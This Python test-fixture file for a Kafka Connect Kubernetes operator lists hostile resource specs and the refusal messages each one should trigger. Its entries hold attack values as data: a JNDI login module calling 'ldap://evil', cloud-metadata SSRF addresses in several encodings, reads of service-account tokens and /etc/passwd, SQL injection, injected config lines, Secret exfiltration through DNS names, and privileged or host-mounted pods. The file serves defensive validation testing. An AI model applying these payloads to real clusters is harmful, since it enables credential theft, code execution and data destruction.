"""Specs that somebody wrote to do harm: what each is after, and in which words the API server and the plan refuse it.

The API server refuses by the schema, its rules, or an admission policy; ``plan`` is the operator's own word, for older
definitions, or none. What only one of the two refuses says why in ``argued``. Nothing here is taken by both.

Taken, as it does no harm, is: SQL in properties that Debezium has for it (it runs by the login that the spec's author
may get), the name of a class of the image (what runs in workers is what their image has), a host name that resolves to
a link-local address (what a name stands for is known where it is used: a NetworkPolicy of the cluster's owner bounds
it), and loopback (what listens in a pod is the pod's own, such as a proxy of the template).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any

Json = dict[str, Any]
SHAPE, PATTERN, UNKNOWN = "should match", "should match pattern", "unknown field"
EXTRA, MOST, ABOVE = "Extra inputs are not permitted", "should be less than or equal to", "less than or equal to"
LOGIN, PLAIN = "a login would stand here in plain text", "a password would stand here in plain text"
HAS_LOGIN, HAS_PASSWORD = "would hold a login in plain text", "would hold a password in plain text"
HOSTS, LOCAL = "write host and port alone", "link-local addresses and a cloud's metadata are none"
SHOWN, MAY_NOT = "a Secret would be shown", "may name no Secret so"
CODE, WOULD_LOAD = "properties that load a class, open a file or run a script", "would load a class, open a file"
INVALID, ODD, PASSWORD, ELSEWHERE = "InvalidSpec", "PropertyNotAllowed", "PasswordInConfig", "HostNotAllowed"
JNDI = 'com.sun.security.auth.module.JndiLoginModule required user.provider.url="ldap://evil/x";'
TOKEN = "/var/run/secrets/kubernetes.io/serviceaccount/token"
VICTIM = "victim"
STOLEN = "${secrets:shop/victim:password}"


@dataclass(frozen=True, kw_only=True)
class Hostile:
    """A spec, as a merge patch of a good one, and who refuses it.

    ``server`` and ``plan`` are parts of what each says, ``reason`` is the condition's. The Secret ``victim`` may be
    sent to ``friend`` alone and got by its owner alone.
    """

    kind: str
    after: str
    change: Json
    server: str
    plan: str | None
    reason: str = INVALID
    name: str = "x"
    argued: str = ""


def _kafka(after: str, server: str, plan: str, reason: str = INVALID, **change: Any) -> Hostile:
    return Hostile(kind="KafkaConnection", after=after, change=change, server=server, plan=plan, reason=reason)


def _servers(after: str, text: str, server: str = HOSTS, plan: str = HOSTS, reason: str = INVALID) -> Hostile:
    return _kafka(after, server, plan, reason, bootstrapServers=text)


def _tuning(after: str, name: str, value: str) -> Hostile:
    return _kafka(after, "only properties that tune", "is not among the properties", ODD, properties={name: value})


def _workers(after: str, name: str, value: str, server: str, plan: str, reason: str = ODD) -> Hostile:
    change = {"workers": {"config": {name: value}}}
    return Hostile(kind="ConnectCluster", after=after, change=change, server=server, plan=plan, reason=reason)


def _pods(after: str, server: str, plan: str, **template: Any) -> Hostile:
    change = {"workers": {"template": template}}
    return Hostile(kind="ConnectCluster", after=after, change=change, server=server, plan=plan)


def _config(after: str, name: str, value: str, server: str, plan: str, reason: str = ODD) -> Hostile:
    return Hostile(
        kind="Connector", after=after, change={"config": {name: value}}, server=server, plan=plan, reason=reason
    )


def _connector(after: str, server: str, plan: str, reason: str = INVALID, **change: Any) -> Hostile:
    return Hostile(kind="Connector", after=after, change=change, server=server, plan=plan, reason=reason)


def _tokens(after: str, endpoint: str, server: str, plan: str, reason: str = INVALID) -> Hostile:
    oauth = {"tokenEndpoint": endpoint}
    sasl = {"mechanism": "OAUTHBEARER", "credentials": {"secret": "a"}, "oauth": oauth}
    return _kafka(after, server, plan, reason, sasl=sasl)


SET = "are set by Headrace"
ENDPOINT = "write https://host:port/path"
OF_KAFKA = (
    _servers("a login in the status", "SASL_SSL://me:s3cret@kafka:9092", LOGIN, HAS_LOGIN, PASSWORD),
    _servers("another line in the workers' file", "kafka:9092\nplugin.path=/mnt/x"),
    _servers("a Secret in the workers' log, and in a name that is looked up", f"{STOLEN}.evil.example:9092"),
    _servers("a variable of the workers", "${env:HOME}:9092"),
    _servers("a file", "file:///etc/passwd"),
    _servers("a text that ends early", "kafka\0:9092"),
    _servers("the cloud's metadata", "169.254.169.254:80", LOCAL, LOCAL),
    _servers("the same as an IPv6 address", "[::ffff:a9fe:a9fe]:80", LOCAL, LOCAL),
    _servers("the same as one number", "kafka:9092,2852039166:80", LOCAL, LOCAL),
    _servers("the same by its name", "kafka:9092, metadata.google.internal:80", LOCAL, LOCAL),
    _tuning("a library in the operator", "plugin.library.paths", "/mnt/evil"),
    _tuning("a file of the operator", "ssl.ca.location", TOKEN),
    _tuning("a token endpoint elsewhere", "sasl.oauthbearer.token.endpoint.url", "http://169.254.169.254/"),
    _tuning("a command in the operator", "sasl.kerberos.kinit.cmd", "id"),
    _tuning("another Kafka", "bootstrap.servers", "evil:9092"),
    _tokens("a login in the status", "https://me:s3cret@id/token", LOGIN, HAS_LOGIN, PASSWORD),
    _tokens("the metadata, for a token", "http://169.254.169.254/latest/api/token", LOCAL, LOCAL),
    _tokens("the same as one number", "http://2852039166/token", LOCAL, LOCAL),
    _tokens("a file of the operator", "file:///etc/passwd", ENDPOINT, ENDPOINT),
    _tokens("a second endpoint for the workers", "https://id/token,https://evil/", ENDPOINT, ENDPOINT),
    _tokens("a variable of the workers", "https://id/$(HEADRACE_POD_IP)", ENDPOINT, ENDPOINT),
    _tokens("a Secret of the workers", f"https://id/{STOLEN}", ENDPOINT, ENDPOINT),
    _tokens("another line in the workers' file", "https://id/token\nplugin.path=/mnt/x", ENDPOINT, ENDPOINT),
    _kafka(
        "somebody's Secret, by a provider of one's own",
        "you name the Secret victim and may not get it",
        "Secret victim may be sent to friend only",
        ELSEWHERE,
        bootstrapServers="friend:9092",
        sasl={
            "mechanism": "OAUTHBEARER",
            "credentials": {"secret": VICTIM},
            "oauth": {"tokenEndpoint": "https://evil/token"},
        },
    ),
    _kafka("a file beside the Secrets", SHAPE, PATTERN, tls={"ca": {"secret": "a", "key": "../../etc/passwd"}}),
    _kafka("certificates unchecked", UNKNOWN, EXTRA, tls={"insecureSkipVerify": True}),
    _kafka(
        "a Secret of another namespace",
        UNKNOWN,
        EXTRA,
        sasl={"mechanism": "PLAIN", "credentials": {"secret": "a", "namespace": "kube-system"}},
    ),
    _kafka(
        "somebody's Secret, by a Kafka of one's own",
        "you name the Secret victim and may not get it",
        "Secret victim may be sent to friend only",
        ELSEWHERE,
        bootstrapServers="evil:9092",
        sasl={"mechanism": "PLAIN", "credentials": {"secret": VICTIM}},
    ),
    Hostile(
        kind="KafkaConnection",
        after="a name that is also something else's",
        name="kafka.evil",
        change={},
        server="a name has no dots",
        plan="a name has no dots",
    ),
)
OF_WORKERS = (
    _workers("files through a provider", "config.providers", "file", SET, "is set by Headrace"),
    _workers("code in the REST interface", "rest.extension.classes", "evil.Shell", SET, "is set by Headrace"),
    _workers("plug-ins from elsewhere", "plugin.path", "/mnt/evil", SET, "is set by Headrace"),
    _workers("the workers' login at another Kafka", "admin.bootstrap.servers", "evil:9092", SET, "is set by Headrace"),
    _workers("code by JNDI", "producer.sasl.jaas.config", JNDI, PLAIN, HAS_PASSWORD, PASSWORD),
    _workers("a file in a log", "header.converter.x", f"${{file:{TOKEN}:x}}", SHOWN, MAY_NOT, PASSWORD),
    _workers("a Secret in a log", "client.id", STOLEN, SHOWN, MAY_NOT, PASSWORD),
    _workers("a login in the status", "header.converter.url", "http://a:s3cret@web", PLAIN, HAS_PASSWORD, PASSWORD),
    _workers(
        "another line in the file", "producer.acks", "all\nplugin.path=/mnt/x", "a value is one line", "line break"
    ),
    _workers("another name in the file", "x\nplugin.path", "/mnt/x", "a name is letters", "a name is letters"),
    _workers("TLS that trusts all", "ssl.engine.factory.class", "evil.TrustAll", CODE, WOULD_LOAD),
    _workers("ciphers of one's own", "producer.security.providers", "evil.Provider", CODE, WOULD_LOAD),
    _workers("the metadata, by a converter", "key.converter.url", "http://169.254.169.254/latest", LOCAL, LOCAL),
    _workers("the same as hexadecimal", "key.converter.url", "http://0xA9FEA9FE/latest", LOCAL, LOCAL),
    Hostile(
        kind="ConnectCluster",
        after="a login in the status",
        change={"workers": {"image": "me:s3cret@registry.example/x:1"}},
        server=LOGIN,
        plan=HAS_LOGIN,
        reason=PASSWORD,
    ),
    Hostile(
        kind="ConnectCluster",
        after="all nodes at once",
        change={"workers": {"replicas": 10**12}},
        server=MOST,
        plan=ABOVE,
    ),
    _pods("code in the JVM", SHAPE, PATTERN, jvmOptions=["-javaagent:/mnt/evil.jar"]),
    _pods("two options in one", SHAPE, PATTERN, jvmOptions=["-Xmx1g -javaagent:/mnt/evil.jar"]),
    _pods(
        "JNDI, which Kafka forbids",
        "lift what Kafka forbids",
        "lift what Kafka forbids",
        jvmOptions=["-Dorg.apache.kafka.disallowed.login.modules="],
    ),
    _pods("a port to the JVM", "open a port", "open a port", jvmOptions=["-Dcom.sun.management.jmxremote.port=9010"]),
    _pods("an account of ours", UNKNOWN, EXTRA, serviceAccountName="headrace-operator"),
    _pods("the node's files", UNKNOWN, EXTRA, volumes=[{"name": "a", "hostPath": {"path": "/"}}]),
    _pods(
        "the node itself",
        UNKNOWN,
        EXTRA,
        initContainers=[{"name": "a", "image": "b", "securityContext": {"privileged": True}}],
    ),
    _pods(
        "a pod without AppArmor",
        "are not yours to give",
        "are not yours to give",
        annotations={"container.apparmor.security.beta.kubernetes.io/connect": "unconfined"},
    ),
    _pods(
        "our own variables",
        "give this one another name",
        "another name",
        env=[{"name": "HEADRACE_POD_IP", "value": "1"}],
    ),
    _pods(
        "plug-ins of one's own",
        "are there: mount it elsewhere",
        "are there: mount it elsewhere",
        volumes=[{"name": "a", "emptyDir": {}}],
        mounts=[{"name": "a", "mountPath": "/opt/headrace/connect/plugins"}],
    ),
    _pods(
        "the same by a detour",
        SHAPE,
        PATTERN,
        volumes=[{"name": "a", "emptyDir": {}}],
        mounts=[{"name": "a", "mountPath": "/mnt/../opt/headrace"}],
    ),
    Hostile(
        kind="ConnectCluster",
        after="code of somebody who may create no pods",
        change={"workers": {"image": "evil:1"}},
        server="and you may not create pods in namespace shop",
        plan=None,
        argued="who asks is known to the API server alone",
    ),
    Hostile(
        kind="ConnectCluster",
        after="a Service that cannot be made, and pods without their NetworkPolicy",
        name="2026-main",
        change={},
        server="begin with a letter",
        plan="begin with a letter",
    ),
)
OF_CONNECTORS = (
    _connector("a class in the driver", HOSTS, HOSTS, postgres={"host": "evil/x?socketFactory=evil.Shell&a="}),
    _connector(
        "a Secret in a name that is looked up",
        HOSTS,
        "would show the value of a Secret",
        PASSWORD,
        postgres={"host": f"{STOLEN}.evil.example"},
    ),
    _connector("the cloud's metadata", LOCAL, LOCAL, postgres={"host": "db,169.254.169.254"}),
    _connector("the same as octal", LOCAL, LOCAL, postgres={"host": "0251.0376.0251.0376"}),
    _connector("a login in the status", LOGIN, HAS_LOGIN, PASSWORD, postgres={"host": "me:s3cret@db"}),
    _connector(
        "a file of the driver's",
        "the driver reads a name",
        "the driver reads",
        postgres={"database": "x?loggerFile=/tmp/x"},
    ),
    _connector(
        "somebody's Secret, by a database of one's own",
        "you name the Secret victim and may not get it",
        "Secret victim may be sent to friend only",
        ELSEWHERE,
        postgres={"host": "evil", "credentials": {"secret": VICTIM}},
    ),
    _connector("a second reference", SHAPE, PATTERN, postgres={"credentials": {"passwordKey": f"a}}{STOLEN}"}}),
    _connector("SQL in the slot", SHAPE, PATTERN, postgres={"slot": "x'); DROP TABLE orders; --"}),
    _connector("SQL in the publication", SHAPE, PATTERN, postgres={"publication": 'x" FOR ALL TABLES; --'}),
    _connector("a port beyond all", MOST, ABOVE, postgres={"port": 10**9}),
    _config(
        "SQL in it as a raw property",
        "publication.name",
        "x'; DROP TABLE orders; --",
        "publication.name has no quotes",
        "config.publication.name would be read as something else",
    ),
    _config(
        "the driver's host as a raw property",
        "database.hostname",
        "evil/x?a=",
        "database.hostname is hosts",
        "config.database.hostname would be read as something else",
    ),
    _config(
        "more behind its port",
        "database.port",
        "5432/x?a=",
        "database.port a number",
        "config.database.port would be read as something else",
    ),
    _config("a class in the driver", "driver.socketFactory", "evil.Shell", CODE, WOULD_LOAD),
    _config("TLS unchecked", "database.sslfactory", "org.postgresql.ssl.NonValidatingFactory", CODE, WOULD_LOAD),
    _config("a file of the driver's", "driver.loggerFile", "/tmp/../mnt/x", CODE, WOULD_LOAD),
    _config("the token of the workers, in a log", "signal.file", TOKEN, CODE, WOULD_LOAD),
    _config("a script in the workers", "transforms.x.language", "jsr223.groovy", CODE, WOULD_LOAD),
    _config("any plug-in", "connector.class", "FileStreamSource", "are set by Headrace", "is set by Headrace"),
    _config("the connector of others", "name", "shop.orders", "are set by Headrace", "is set by Headrace"),
    _config("a slot that goes with it unasked", "headrace.on.delete.slot", "Delete", SET, "is set by Headrace"),
    _config("a Secret in the status", "transforms.secret.type", STOLEN, SHOWN, MAY_NOT, PASSWORD),
    _config("a file", "database.password", f"${{directory:{TOKEN}:x}}", SHOWN, MAY_NOT, PASSWORD),
    _config("a password in the status", "database.password", "s3cret", PLAIN, HAS_PASSWORD, PASSWORD),
    _config(
        "the workers' login at another Kafka",
        "producer.override.bootstrap.servers",
        "evil:9092",
        "said by the KafkaConnection alone",
        "is said by the KafkaConnection alone",
    ),
    _config("code by JNDI", "producer.override.sasl.jaas.config", JNDI, PLAIN, HAS_PASSWORD, PASSWORD),
    _config("the metadata, by a registry", "value.converter.schema.registry.url", "http://[fe80::1]/", LOCAL, LOCAL),
    _config("the metadata, by signals", "signal.kafka.bootstrap.servers", "a:1,169.254.169.254:80", LOCAL, LOCAL),
    _connector(
        "a Secret in a header",
        "a column's name here has no",
        "a column's name here has no",
        capture={"outbox": {"columns": {"payload": STOLEN}}},
    ),
    _connector(
        "other columns",
        "a column's name here has no",
        "a column's name here has no",
        capture={"outbox": {"columns": {"type": "type:header:a,secret:envelope"}}},
    ),
    _connector(
        "two tables in one",
        "a table is schema.table",
        "a table is schema.table",
        capture={"outbox": {"table": "public.outbox,public.users"}},
    ),
    _connector(
        "the dead letters of others",
        "begin with retry, dlq or connect",
        "may be those that Headrace makes",
        topics={"prefix": "dlq.other"},
    ),
    _connector("a path", SHAPE, PATTERN, topics={"prefix": "../x"}),
    Hostile(
        kind="Connector",
        after="a Secret of another namespace",
        change={"config": {"database.password": "${secrets:kube-system/victim:password}"}},
        server="you name the Secret victim and may not get it",
        plan="may name no Secret so",
        reason=PASSWORD,
        argued="the API server asks about a Secret of that name in the resource's own namespace; where the requester "
        "may get that one, the plan alone knows better, and workers have no right elsewhere",
    ),
    Hostile(
        kind="Connector",
        after="workers that somebody may not use",
        change={"connect": "others"},
        server="you refer to the ConnectCluster others and may not use it",
        plan=None,
        argued="who asks is known to the API server alone",
    ),
)
OF_OTHERS = (*OF_KAFKA, *OF_WORKERS, *OF_CONNECTORS)
"""All but Consumers, OutboxRelays and Snapshots."""
